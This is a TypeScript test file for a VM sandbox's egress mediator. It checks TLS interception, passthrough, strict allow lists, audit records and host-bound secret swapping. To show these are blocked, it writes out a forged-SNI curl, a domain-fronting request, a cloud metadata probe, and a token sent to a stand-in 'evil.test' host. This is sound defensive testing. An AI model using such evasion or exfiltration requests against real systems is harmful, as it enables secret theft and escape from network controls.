/**
 * Egress mediation end to end on real VMs: curl, python3 urllib and openssl s_client in the guest
 * against HTTPS servers this test runs on 127.0.0.1 and 127.0.0.2 with their own CA (openssl, made
 * here), and the mediator told to trust that CA with --egress-upstream-ca. The guest dials
 * public-looking addresses (its own 127/8 never leaves it), named with --add-host or answered by a
 * DNS server of the test (--dns 127.0.0.1:PORT); MICROAGENT_TEST_EGRESS_ROUTES makes the mediator
 * dial those addresses on loopback (A_IP -> 127.0.0.1, EVIL_IP -> 127.0.0.2) and refuse the rest. Proves: guarded interception with the workspace CA trusted by every client
 * (env and the bind-mounted image bundle), passthrough showing the server's own certificate, a
 * forged SNI to another address never reaching it, domain fronting refused, strict's allow list
 * (DNS REFUSED, unlisted names and direct IPs denied), the mediation channel's readiness, `--egress
 * off` with no CA in the guest, and a mediator that cannot be set up refusing the start. Every
 * record asserted is read back with `microagent egress`. Loopback only.
 */
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { createSocket, type Socket } from "node:dgram";
import dnsPacket from "dns-packet";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer as createHttpsServer, type Server as HttpsServer } from "node:https";
import { createServer, type AddressInfo, type Server } from "node:net";
import { join } from "node:path";
import { tmpdir } from "node:os";
import { workspaceFixture, type WorkspaceFixture } from "../helpers/workspace.ts";
import { awaitRecord as awaitRecordIn, readAudit } from "../helpers/egress-audit.ts";
import { runCli } from "../helpers/cli.ts";
import { pushImage } from "../helpers/oci-image.ts";
import { buildToolsImage } from "../helpers/tools-image.ts";

let fx: WorkspaceFixture;
let imageRef: string;
let toolsCleanup: () => Promise<void> = async () => {};
let certDir: string;
let caFile: string;
const servers: Array<Server | HttpsServer> = [];
const udpSockets: Socket[] = [];
/** Requests each server saw: `host url`. */
const seen = { a: [] as string[], b: [] as string[] };
/** The Authorization header of each request to `/swap*` paths, per server: `url header`. */
const authSeen = { a: [] as string[], b: [] as string[] };
let portA = 0;
let portB = 0;

/** secure.test, pinned.test, dns.test: server A (a certificate for those names). */
const A_IP = "93.184.216.34";
/** evil.test: server B (127.0.0.2), whose certificate names evil.test only. */
const EVIL_IP = "93.184.216.66";
let dnsPort = 0;
const dnsAsked: string[] = [];

const IMAGE_BUNDLE = "# the image's own CA bundle (a placeholder)\n";

async function cli(...args: string[]) {
  const r = await runCli(["--state-dir", fx.stateDir, ...args]);
  return { code: r.code, stdout: r.out, stderr: r.err };
}

async function sh(name: string, script: string) {
  return cli("exec", name, "--timeout", "300s", "--", "sh", "-c", script);
}

interface Rec {
  type: string;
  decision: string;
  dst: string | null;
  name: string | null;
  sni?: string | null;
  host?: string | null;
  hostAsserted?: string | null;
  signal: string | null;
  mitm?: boolean;
  passthrough?: boolean;
  bytesUp?: number;
  bytesDown?: number;
}

const audit = (name: string) => readAudit<Rec>(fx.stateDir, name);
const awaitRecord = (name: string, want: (r: Rec) => boolean, what: string) => awaitRecordIn<Rec>(fx.stateDir, name, want, what);

function openssl(args: string[]): void {
  execFileSync("openssl", args, { cwd: certDir, stdio: ["ignore", "ignore", "pipe"] });
}

function listenHttps(which: "a" | "b", host: string): Promise<number> {
  const s = createHttpsServer({ key: readFileSync(join(certDir, `${which}.key`)), cert: readFileSync(join(certDir, `${which}.pem`)) }, (req, res) => {
    seen[which].push(`${req.headers.host} ${req.url}`);
    if (req.url?.startsWith("/swap")) authSeen[which].push(`${req.url} ${req.headers.authorization ?? "-"}`);
    res.end(`hello from ${which}: ${req.headers.host} ${req.url}\n`);
  });
  servers.push(s);
  return new Promise((r) => s.listen(0, host, () => r((s.address() as AddressInfo).port)));
}

before(async () => {
  certDir = mkdtempSync(join(tmpdir(), "egress-certs-"));
  // An upstream CA of the test's own and one server certificate for every name the tests use.
  openssl(["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", "ca.key", "-out", "ca.pem", "-days", "2", "-subj", "/CN=Test Upstream CA"]);
  for (const [which, names] of [["a", "secure.test,DNS:pinned.test,DNS:dns.test,DNS:blocked.test"], ["b", "evil.test"]] as const) {
    openssl(["req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", `${which}.key`, "-out", `${which}.csr`, "-subj", `/CN=server ${which}`]);
    writeFileSync(join(certDir, `${which}.cnf`), `subjectAltName=DNS:${names}\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n`);
    openssl(["x509", "-req", "-in", `${which}.csr`, "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial", "-out", `${which}.pem`, "-days", "2", "-extfile", `${which}.cnf`]);
  }
  caFile = join(certDir, "ca.pem");
  portA = await listenHttps("a", "127.0.0.1");
  portB = await listenHttps("b", "127.0.0.2");
  // The workspaces' upstream resolver: dns.test -> A_IP, everything else NXDOMAIN.
  const dns = createSocket("udp4");
  dns.on("message", (m, rinfo) => {
    const q = dnsPacket.decode(m);
    const question = q.questions?.[0];
    if (!question) return;
    dnsAsked.push(`${question.name}/${question.type}`);
    const hit = question.name.toLowerCase() === "dns.test";
    const answer = dnsPacket.encode({
      id: q.id,
      type: "response",
      flags: dnsPacket.RECURSION_DESIRED | dnsPacket.RECURSION_AVAILABLE | (hit ? 0 : 3),
      questions: [question],
      answers: hit && question.type === "A" ? [{ name: question.name, type: "A", class: "IN", ttl: 60, data: A_IP }] : [],
    });
    dns.send(answer, rinfo.port, rinfo.address);
  });
  dnsPort = await new Promise<number>((r) => dns.bind(0, "127.0.0.1", () => r(dns.address().port)));
  udpSockets.push(dns);
  process.env.MICROAGENT_TEST_EGRESS_ROUTES = `${A_IP}=127.0.0.1,${EVIL_IP}=127.0.0.2`;
  fx = await workspaceFixture("egress");
  const tools = await buildToolsImage({ files: { "/etc/ssl/certs/ca-certificates.crt": IMAGE_BUNDLE } });
  toolsCleanup = () => tools.cleanup();
  imageRef = (await pushImage(tools, fx.registry, "egress/tools:1")).ref;
  process.env.MICROAGENT_INSECURE_REGISTRIES = fx.registry.host;
  process.env.MICROAGENT_KERNEL_CACHE ??= join(tmpdir(), "microagent-test-kernel-cache");
});

after(async () => {
  for (const s of servers) s.close();
  for (const u of udpSockets) u.close();
  await toolsCleanup();
  await fx?.cleanup();
  rmSync(certDir, { recursive: true, force: true });
});

test("egress guarded: curl, python3 and openssl trust the workspace CA; passthrough shows the server's own certificate; a forged SNI and domain fronting are refused; the mediation channel", { timeout: 900_000 }, async () => {
  const name = "guarded";
  const listener = createServer((c) => {
    c.on("data", (d: Buffer) => c.end(`mediated:${d.toString().trim()}\n`));
    c.on("error", () => {});
  });
  servers.push(listener);
  const mediationPort = await new Promise<number>((r) => listener.listen(0, "127.0.0.1", () => r((listener.address() as AddressInfo).port)));
  const created = await cli(
    "create", name, "--image", imageRef, "--profile", "tiny",
    "--add-host", `secure.test:${A_IP}`, "--add-host", `pinned.test:${A_IP}`, "--add-host", `evil.test:${EVIL_IP}`,
    "--dns", `127.0.0.1:${dnsPort}`,
    "--egress-passthrough", "pinned.test", "--egress-upstream-ca", caFile,
    "--mediation", `7000=127.0.0.1:${mediationPort}`,
  );
  assert.equal(created.code, 0, created.stderr);
  try {
    const started = await cli("start", name);
    assert.equal(started.code, 0, started.stdout + started.stderr);

    // The CA reached the guest per boot: files under /run/microagent/egress, the env, and the image's bundle covered by a bind mount.
    const trust = await sh(name, "ls /run/microagent/egress; echo SSL_CERT_FILE=$SSL_CERT_FILE; echo CURL_CA_BUNDLE=$CURL_CA_BUNDLE; echo REQUESTS_CA_BUNDLE=$REQUESTS_CA_BUNDLE; echo NODE_EXTRA_CA_CERTS=$NODE_EXTRA_CA_CERTS; grep -c ' /etc/ssl/certs/ca-certificates.crt ' /proc/self/mountinfo; grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt");
    assert.equal(trust.code, 0, trust.stderr);
    assert.match(trust.stdout, /^ca-bundle\.crt\nworkspace-ca\.crt$/m);
    assert.match(trust.stdout, /^SSL_CERT_FILE=\/run\/microagent\/egress\/ca-bundle\.crt$/m);
    assert.match(trust.stdout, /^CURL_CA_BUNDLE=\/run\/microagent\/egress\/ca-bundle\.crt$/m);
    assert.match(trust.stdout, /^REQUESTS_CA_BUNDLE=\/run\/microagent\/egress\/ca-bundle\.crt$/m);
    assert.match(trust.stdout, /^NODE_EXTRA_CA_CERTS=\/run\/microagent\/egress\/workspace-ca\.crt$/m);
    const [mounts, certs] = trust.stdout.trim().split("\n").slice(-2).map(Number);
    assert.equal(mounts, 1, "the image's bundle is covered by one bind mount");
    assert.ok(certs! > 1, `the covering bundle holds the host roots and the workspace CA (${certs} certificates), not the image's placeholder`);

    // curl through interception: the guest trusts the workspace CA, the mediator trusts the server via --egress-upstream-ca.
    const curl = await sh(name, `curl -sS --fail https://secure.test:${portA}/curl`);
    assert.equal(curl.code, 0, curl.stderr);
    assert.equal(curl.stdout, `hello from a: secure.test:${portA} /curl\n`);
    // ... and with only the image's bundle path (no env): the bind mount is what curl reads.
    const sys = await sh(name, `env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS --fail https://secure.test:${portA}/system-store`);
    assert.equal(sys.code, 0, sys.stderr);
    assert.match(sys.stdout, /\/system-store/);
    const py = await sh(name, `python3 -c "import urllib.request as u; print(u.urlopen('https://secure.test:${portA}/python', timeout=60).read().decode(), end='')"`);
    assert.equal(py.code, 0, py.stderr);
    assert.equal(py.stdout, `hello from a: secure.test:${portA} /python\n`);
    const ossl = await sh(name, `openssl s_client -connect secure.test:${portA} -servername secure.test -verify_return_error </dev/null 2>&1`);
    assert.equal(ossl.code, 0, ossl.stdout);
    assert.match(ossl.stdout, /Verify return code: 0 \(ok\)/);
    assert.match(ossl.stdout, /issuer=.*microagent egress CA guarded/, "the guest sees the workspace CA's leaf");
    assert.doesNotMatch(ossl.stdout, /Test Upstream CA/);

    // Passthrough: the server's own certificate reaches the guest untouched (which does not trust that CA).
    const pass = await sh(name, `openssl s_client -connect pinned.test:${portA} -servername pinned.test </dev/null 2>&1`);
    assert.match(pass.stdout, /issuer=.*Test Upstream CA/, pass.stdout);
    assert.doesNotMatch(pass.stdout, /microagent egress CA/);

    // A name the test's resolver answered: pinned to A_IP, proved by the SNI, intercepted.
    const viaDns = await sh(name, `curl -sS --fail https://dns.test:${portA}/via-dns`);
    assert.equal(viaDns.stdout, `hello from a: dns.test:${portA} /via-dns\n`, viaDns.stderr);
    assert.ok(dnsAsked.includes("dns.test/A"), `the mediator forwarded the query to the test's resolver: ${dnsAsked.join(" ")}`);
    const dnsAllow = await awaitRecord(name, (r) => r.type === "egress_dns_allow" && r.name === "dns.test" && (r as Rec & { qtype?: string }).qtype === "A", "the DNS answer");
    assert.deepEqual((dnsAllow as Rec & { answers?: string[] }).answers, [A_IP]);
    assert.ok((await audit(name)).some((r) => r.type === "egress_allow" && r.name === "dns.test" && r.dst === `${A_IP}:${portA}` && r.mitm === true));

    // A client with its own root store (only the upstream's CA: "pinned") rejects the workspace CA's
    // leaf: egress_mitm_handshake_error naming --egress-passthrough; the passthrough host works for it.
    const up = readFileSync(caFile, "utf8");
    const own = await sh(name, `cat > /tmp/own.pem <<'EOF'\n${up}EOF\ncurl -sS --cacert /tmp/own.pem https://secure.test:${portA}/own-store 2>&1; echo rc=$?; curl -sS --fail --cacert /tmp/own.pem https://pinned.test:${portA}/own-store-passthrough`);
    assert.match(own.stdout, /certificate|SSL/i, own.stdout);
    assert.ok(!seen.a.includes(`secure.test:${portA} /own-store`), "the rejected flow's request never went upstream");
    assert.match(own.stdout, new RegExp(`hello from a: pinned\\.test:${portA} /own-store-passthrough`), own.stdout);
    const hs = await awaitRecord(name, (r) => r.type === "egress_mitm_handshake_error" && r.name === "secure.test", "the rejected leaf");
    assert.match((hs as Rec & { reason: string }).reason, /--egress-passthrough/);

    // A forged SNI: secure.test's name sent to EVIL_IP (resolved for evil.test only). Guarded lets the
    // flow go as *unnamed*, dials the address the guest chose, and the upstream's certificate (evil.test
    // only) does not verify for secure.test: the request never reaches that server.
    const forged = await sh(name, `curl -sS --resolve secure.test:${portB}:${EVIL_IP} https://secure.test:${portB}/forged 2>&1; echo rc=$?`);
    assert.doesNotMatch(forged.stdout, /rc=0\n|hello from/, forged.stdout);
    assert.deepEqual(seen.b, [], "no request reached the server behind EVIL_IP");
    const mismatch = await awaitRecord(name, (r) => r.hostAsserted === "secure.test" && r.dst === `${EVIL_IP}:${portB}` && r.type === "egress_allow", "the forged SNI");
    assert.equal(mismatch.name, null, "never audited under the name it did not prove");
    assert.equal(mismatch.signal, "name-destination-mismatch");
    await awaitRecord(name, (r) => r.type === "egress_mitm_upstream_error" && r.dst === `${EVIL_IP}:${portB}`, "the upstream certificate failing for the forged name");
    // A direct IP (no SNI): guarded lets it go as an unnamed flow; the upstream is verified for the
    // address it was dialled at, which server A's certificate does not name, so nothing reaches it.
    const direct = await sh(name, `curl -sS -k https://${A_IP}:${portA}/direct 2>&1; echo rc=$?`);
    assert.doesNotMatch(direct.stdout, /hello from|rc=0\n/, direct.stdout);
    const unnamed = await awaitRecord(name, (r) => r.type === "egress_allow" && r.dst === `${A_IP}:${portA}` && r.signal === "direct-ip-no-sni", "the direct-IP flow");
    assert.equal(unnamed.name, null);
    assert.ok(!seen.a.some((x) => x.includes("/direct")));

    // Domain fronting under interception: SNI secure.test, Host evil.test.
    const front = await sh(name, `curl -sS -o /dev/null -w '%{http_code}' -H 'Host: evil.test' https://secure.test:${portA}/front`);
    assert.equal(front.stdout, "421", front.stdout + front.stderr);
    assert.ok(!seen.a.some((s) => s.includes("/front")), "the fronted request never reached the upstream");
    await awaitRecord(name, (r) => r.type === "egress_deny" && r.signal === "domain-fronting", "domain fronting");

    // Side channels around the mediator (research (e)): each refused with its signal and audited. The
    // addresses are documentation ones (192.0.2.0/24) and the link-local metadata address: nothing is dialled.
    const side = await sh(
      name,
      [
        "nc -w 5 192.0.2.1 853 </dev/null 2>&1; echo dot=$?",
        "curl -sS -m 5 http://169.254.169.254/latest/meta-data/ 2>&1; echo meta=$?",
        `python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(b'quic', ('192.0.2.1', 443)); s.recv(10)" 2>&1; echo quic=$?`,
        "nslookup dns.test 192.0.2.53 2>&1; echo foreign=$?",
      ].join("; "),
    );
    assert.match(side.stdout, /dot=1/, side.stdout);
    assert.match(side.stdout, /meta=(7|28)/, side.stdout);
    assert.doesNotMatch(side.stdout, /quic=0/, side.stdout);
    assert.match(side.stdout, new RegExp(`Address:? *${A_IP.replaceAll(".", "\\.")}`), "a query sent to a foreign resolver is answered by the mediator");
    await awaitRecord(name, (r) => r.type === "egress_deny" && r.signal === "dns-over-tls" && r.dst === "192.0.2.1:853", "DoT");
    await awaitRecord(name, (r) => r.type === "egress_deny" && r.signal === "inside-destination" && r.dst === "169.254.169.254:80", "the metadata address");
    await awaitRecord(name, (r) => r.type === "egress_udp_deny" && r.signal === "quic-udp443", "QUIC");
    await awaitRecord(name, (r) => r.type === "egress_dns_allow" && r.name === "dns.test" && r.signal === "foreign-resolver", "the foreign resolver");

    // The audit: intercepted flows under the name they proved, passthrough with bytes, closes.
    const recs = await audit(name);
    const mitm = recs.find((r) => r.type === "egress_allow" && r.name === "secure.test" && r.mitm === true);
    assert.ok(mitm, JSON.stringify(recs.slice(0, 20)));
    assert.equal(mitm.dst, `${A_IP}:${portA}`, "audited at the address the guest dialled");
    assert.equal(mitm.sni, "secure.test");
    assert.ok(recs.some((r) => r.type === "egress_allow" && r.name === "pinned.test" && r.passthrough === true && r.mitm === false));
    const closed = recs.find((r) => r.type === "egress_close" && r.name === "pinned.test");
    assert.ok(closed && closed.bytesUp! > 0 && closed.bytesDown! > 0, `passthrough close carries bytes: ${JSON.stringify(closed)}`);

    // The mediation channel: the guest reaches the host listener through the gateway's port 7000.
    const med = await sh(name, "echo ping | nc mediation.microagent.internal 7000");
    assert.equal(med.stdout, "mediated:ping\n", med.stderr);
    const st = await cli("--json", "status", name);
    const status = JSON.parse(st.stdout) as { readiness: { ready: boolean; mediationReady?: { ready: boolean; detail?: string; error?: string } }; egress?: { mode: string; counts: Record<string, number> } };
    assert.equal(status.readiness.mediationReady?.ready, true, st.stdout);
    assert.equal(status.readiness.ready, true);
    assert.equal(status.egress?.mode, "guarded");
    assert.ok((status.egress?.counts.allow ?? 0) >= 4 && (status.egress?.counts.deny ?? 0) >= 2, JSON.stringify(status.egress));
    listener.close();
    await new Promise((r) => setTimeout(r, 100));
    const down = await cli("--json", "status", name);
    const downStatus = JSON.parse(down.stdout) as typeof status;
    const probe = downStatus.readiness.mediationReady;
    assert.equal(probe?.ready, false, down.stdout);
    assert.equal(downStatus.readiness.ready, false, "a required mediation channel that does not answer leaves the workspace not ready");
    assert.match(probe?.error ?? "", /error: mediation channel required but unreachable/);
    const text = await cli("status", name);
    assert.match(text.stdout, /error: mediation channel required but unreachable/);
    assert.match(text.stdout, /egress:\s+guarded/);
    const cut = await sh(name, "echo ping | nc mediation.microagent.internal 7000; echo rc=$?");
    assert.doesNotMatch(cut.stdout, /mediated:/, "nothing flows while the listener is down");
    // Seed 001: a start whose required listener is down still starts, and says so with the fix.
    assert.equal((await cli("halt", name)).code, 0);
    const again = await cli("start", name);
    assert.equal(again.code, 0, again.stdout + again.stderr);
    assert.match(again.stderr, new RegExp(`error: mediation channel required but unreachable: 7000=127\\.0\\.0\\.1:${mediationPort}: ECONNREFUSED`), again.stderr);
    assert.match(again.stderr, /--mediation-optional/);
  } finally {
    await cli("kill", name);
    await cli("delete", name, "--force");
  }
});

test("egress strict: the allowed name works; other names get DNS REFUSED; an unlisted SNI and a direct IP are denied and audited", { timeout: 900_000 }, async () => {
  const name = "strict";
  // A mediation target nobody listens on, marked optional: the workspace is ready anyway (development only).
  const closed = createServer();
  const closedPort = await new Promise<number>((r) => closed.listen(0, "127.0.0.1", () => r((closed.address() as AddressInfo).port)));
  await new Promise((r) => closed.close(r));
  const created = await cli(
    "create", name, "--image", imageRef, "--profile", "tiny", "--egress", "strict", "--egress-allow", "secure.test", "--add-host", `secure.test:${A_IP}`,
    "--dns", `127.0.0.1:${dnsPort}`, "--egress-upstream-ca", caFile, "--mediation", `7001=127.0.0.1:${closedPort}`, "--mediation-optional",
  );
  assert.equal(created.code, 0, created.stderr);
  const before = seen.a.length;
  try {
    assert.equal((await cli("start", name)).code, 0);
    // No passthrough entries: every TLS flow is intercepted, so the guest's bundle is the workspace CA alone.
    const bundle = await sh(name, "grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt /run/microagent/egress/ca-bundle.crt");
    assert.match(bundle.stdout, /ca-certificates\.crt:1\n.*ca-bundle\.crt:1/, bundle.stdout);
    const ok = await sh(name, `curl -sS --fail https://secure.test:${portA}/strict-ok`);
    assert.equal(ok.code, 0, ok.stderr);
    assert.equal(ok.stdout, `hello from a: secure.test:${portA} /strict-ok\n`);

    const askedBefore = dnsAsked.length;
    const dns = await sh(name, "nslookup dns.test 10.200.0.1 2>&1; echo rc=$?");
    assert.match(dns.stdout, /REFUSED/i, dns.stdout);
    assert.doesNotMatch(dns.stdout, new RegExp(A_IP.replaceAll(".", "\\.")), "no answer for a name on no list");
    assert.deepEqual(dnsAsked.slice(askedBefore), [], "a refused name is never forwarded upstream");
    const dnsRec = await awaitRecord(name, (r) => r.type === "egress_dns_deny" && r.name === "dns.test", "the refused DNS query");
    assert.equal(dnsRec.decision, "deny");

    const unlisted = await sh(name, `curl -sS --resolve blocked.test:${portA}:${A_IP} https://blocked.test:${portA}/unlisted 2>&1; echo rc=$?`);
    assert.doesNotMatch(unlisted.stdout, /rc=0|hello from/, unlisted.stdout);
    const u = await awaitRecord(name, (r) => r.type === "egress_deny" && r.hostAsserted === "blocked.test", "the unlisted SNI");
    assert.equal(u.name, null);

    const direct = await sh(name, `curl -sS -k https://${A_IP}:${portA}/direct 2>&1; echo rc=$?`);
    assert.doesNotMatch(direct.stdout, /rc=0|hello from/, direct.stdout);
    const d = await awaitRecord(name, (r) => r.type === "egress_deny" && r.dst === `${A_IP}:${portA}` && r.name === null && !r.hostAsserted, "the direct-IP connect");
    assert.equal(d.signal, "direct-ip-no-sni");
    assert.deepEqual(seen.a.slice(before), [`secure.test:${portA} /strict-ok`], "only the allowed request reached the server");
    const st = JSON.parse((await cli("--json", "status", name)).stdout) as { readiness: { ready: boolean; mediationReady?: { ready: boolean; detail?: string } }; egress?: { mode: string; counts: { deny: number } } };
    assert.equal(st.readiness.mediationReady?.ready, true, "--mediation-optional: an unreachable target is not a readiness error");
    assert.match(st.readiness.mediationReady?.detail ?? "", /optional and unreachable/);
    assert.equal(st.readiness.ready, true);
    assert.equal(st.egress?.mode, "strict");
    assert.ok((st.egress?.counts.deny ?? 0) >= 3, JSON.stringify(st.egress));
  } finally {
    await cli("kill", name);
    await cli("delete", name, "--force");
  }
});

test("egress run --json: the receipt carries the mode and the audit's counts (no path once the workspace is deleted)", { timeout: 900_000 }, async () => {
  const r = await cli("--json", "run", "--profile", "tiny", "--add-host", `secure.test:${A_IP}`, "--egress-upstream-ca", caFile, imageRef, "curl", "-sS", "--fail", `https://secure.test:${portA}/run`);
  assert.equal(r.code, 0, r.stdout + r.stderr);
  const j = JSON.parse(r.stdout) as { exitCode: number; result: { stdout: string }; egress?: { mode: string; counts: { allow: number; deny: number }; byType: Record<string, number>; audit: string | null } };
  assert.equal(Buffer.from(j.result.stdout, "base64").toString(), `hello from a: secure.test:${portA} /run\n`);
  assert.equal(j.egress?.mode, "guarded");
  assert.ok((j.egress?.byType.egress_allow ?? 0) >= 1 && (j.egress?.counts.allow ?? 0) >= 1, JSON.stringify(j.egress));
  assert.equal(j.egress?.audit, null, "the audit went with the deleted workspace");
});

test("egress off: no CA, no env, the image's bundle untouched, TLS straight through; a mediator that cannot be set up refuses the start", { timeout: 900_000 }, async () => {
  const name = "plain";
  assert.equal((await cli("create", name, "--image", imageRef, "--profile", "tiny", "--egress", "off", "--egress-allow", `host.microagent.internal:${portA}`)).code, 0);
  const bad = await cli("create", "nomed", "--image", imageRef, "--profile", "tiny", "--egress-upstream-ca", join(certDir, "gone.pem"));
  assert.equal(bad.code, 0, bad.stderr);
  try {
    assert.equal((await cli("start", name)).code, 0);
    const r = await sh(name, "ls /run/microagent/egress 2>&1; echo SSL_CERT_FILE=$SSL_CERT_FILE; cat /etc/ssl/certs/ca-certificates.crt; grep -c ' /etc/ssl/certs/ca-certificates.crt ' /proc/self/mountinfo");
    assert.match(r.stdout, /No such file or directory/);
    assert.match(r.stdout, /^SSL_CERT_FILE=$/m);
    assert.ok(r.stdout.includes(IMAGE_BUNDLE), r.stdout);
    assert.match(r.stdout, /^0$/m, "no bind mount over the image's bundle");
    const ossl = await sh(name, `openssl s_client -connect host.microagent.internal:${portA} -servername secure.test </dev/null 2>&1`);
    assert.match(ossl.stdout, /issuer=.*Test Upstream CA/, `not intercepted: ${ossl.stdout}`);
    assert.deepEqual(await audit(name), [], "no audit with egress off");
    const st = JSON.parse((await cli("--json", "status", name)).stdout) as { egress?: { mode: string } };
    assert.equal(st.egress?.mode, "off");

    // Fail closed: the upstream CA file is gone at start: refused with cause and fix, no VM.
    const refused = await cli("--json", "start", "nomed");
    assert.notEqual(refused.code, 0);
    const out = refused.stdout + refused.stderr;
    assert.match(out, /EGRESS_SETUP_FAILED/);
    assert.match(out, /egress: guarded mediation unavailable for workspace nomed — --egress-upstream-ca .*gone\.pem: cannot read it/);
    assert.match(out, /use --egress off/);
    const after = JSON.parse((await cli("--json", "status", "nomed")).stdout) as { state?: string; event: { state: string } };
    assert.notEqual(after.event.state, "running");
  } finally {
    await cli("kill", name);
    await cli("delete", name, "--force");
    await cli("delete", "nomed", "--force");
  }
});

test("egress swap secrets: curl in the guest sends the placeholder, the bound host receives the real value; an unbound host gets the placeholder unreplaced, audited", { timeout: 900_000 }, async () => {
  const name = "swap";
  const value = `sk-live-${execFileSync("openssl", ["rand", "-hex", "24"]).toString().trim()}`;
  process.env.MA_SWAP_SECRET = value;
  const created = await cli(
    "create", name, "--image", imageRef, "--profile", "tiny",
    "--add-host", `secure.test:${A_IP}`, "--add-host", `evil.test:${EVIL_IP}`,
    "--dns", `127.0.0.1:${dnsPort}`, "--egress-upstream-ca", caFile,
    "--secret", "API_TOKEN=env:MA_SWAP_SECRET@secure.test",
  );
  assert.equal(created.code, 0, created.stderr);
  try {
    const started = await cli("start", name);
    assert.equal(started.code, 0, started.stdout + started.stderr);
    // The guest's own view: the variable and the file hold the same per-boot placeholder, never the value.
    const view = await sh(name, 'echo "$API_TOKEN"; cat /run/secrets/API_TOKEN; echo; stat -c %a /run/secrets/API_TOKEN');
    assert.equal(view.code, 0, view.stderr);
    const [envToken, fileToken, mode] = view.stdout.trim().split("\n");
    assert.ok(envToken && envToken.length >= 16, `a placeholder in the variable: ${view.stdout}`);
    assert.equal(fileToken, envToken, "the file holds the same placeholder");
    assert.equal(mode, "400");
    assert.ok(!view.stdout.includes(value), "the guest never sees the value");

    // Bound host: the mediator swaps the token in the Authorization header of the intercepted request.
    const ok = await sh(name, `curl -sS --fail -H "Authorization: Bearer $API_TOKEN" https://secure.test:${portA}/swap-bound`);
    assert.equal(ok.code, 0, ok.stderr);
    assert.deepEqual(authSeen.a, [`/swap-bound Bearer ${value}`], "the bound server received the real value");
    // Unbound host: the placeholder travels as is (useless to whoever gets it), and the attempt is audited.
    const leak = await sh(name, `curl -sS --fail -H "Authorization: Bearer $API_TOKEN" https://evil.test:${portB}/swap-unbound`);
    assert.equal(leak.code, 0, leak.stderr);
    assert.deepEqual(authSeen.b, [`/swap-unbound Bearer ${envToken}`], "the unbound server got the placeholder, unreplaced");

    const swapped = await awaitRecord(name, (r) => r.type === "secret_swap", "the swap");
    assert.deepEqual([(swapped as Rec & { secret?: string }).secret, (swapped as Rec & { header?: string }).header, swapped.name], ["API_TOKEN", "authorization", "secure.test"]);
    const denied = await awaitRecord(name, (r) => r.type === "secret_swap_denied", "the placeholder sent to an unbound host");
    assert.deepEqual([(denied as Rec & { secret?: string }).secret, denied.decision], ["API_TOKEN", "deny"]);
    assert.match(JSON.stringify(denied), /evil\.test/);

    // Neither the value nor the token is in the audit, and the value is nowhere in the state dir.
    const auditText = (await cli("--json", "egress", name)).stdout;
    assert.ok(!auditText.includes(value) && !auditText.includes(envToken), "the audit holds neither the value nor the token");
    const st = await cli("--json", "status", name);
    assert.ok(!st.stdout.includes(value));
    const grep = (() => {
      try {
        return execFileSync("grep", ["-r", "-l", "-a", "-F", value, fx.stateDir]).toString();
      } catch (e) {
        return (e as { status?: number }).status === 1 ? "" : String(e);
      }
    })();
    assert.equal(grep, "", `the value is in: ${grep}`);
  } finally {
    delete process.env.MA_SWAP_SECRET;
    await cli("kill", name);
    await cli("delete", name, "--force");
  }
});
